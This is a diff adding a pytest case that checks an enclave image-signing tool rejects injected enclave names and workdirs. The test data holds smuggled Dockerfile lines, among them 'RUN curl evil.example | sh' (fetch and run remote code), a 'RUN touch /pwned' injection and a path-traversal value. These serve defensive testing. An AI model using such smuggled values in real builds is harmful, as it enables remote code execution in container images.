@@ -400,6 +400,21 @@ def test_sign_image_refuses_onbuild_triggers(mem: MemoryEngine, signed: custom.C
         custom.sign_image("mem/trigger:1-unsigned", enclave_key, quiet=True, engine=mem)
 
 
+@pytest.mark.parametrize("config", [
+    {"cmd": ("gramine-sgx", "x\nRUN curl evil.example | sh")},
+    {"cmd": ("gramine-sgx", "python-ml"), "workdir": "/ppml\nRUN touch /pwned"},
+    {"cmd": ("gramine-sgx", "../../etc/x")},
+    {"cmd": ("gramine-sgx", "-v")},
+])
+def test_enclave_names_cannot_inject_into_the_final_build(
+        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path,
+        config: dict[str, object]) -> None:
+    mem.derive("mem/app:1-unsigned", tag="mem/inject:1-unsigned", **config)
+    with pytest.raises(ImageContentError, match="plain path"):
+        custom.sign_image("mem/inject:1-unsigned", enclave_key, quiet=True, engine=mem)
+    assert "plain path" in problems(mem, "mem/inject:1-unsigned")
+
+
 def test_sign_image_refuses_an_image_that_runs_something_else(
         mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path) -> None:
     mem.derive("mem/app:1-unsigned", cmd=("python3", "/ppml/app/main.py"),
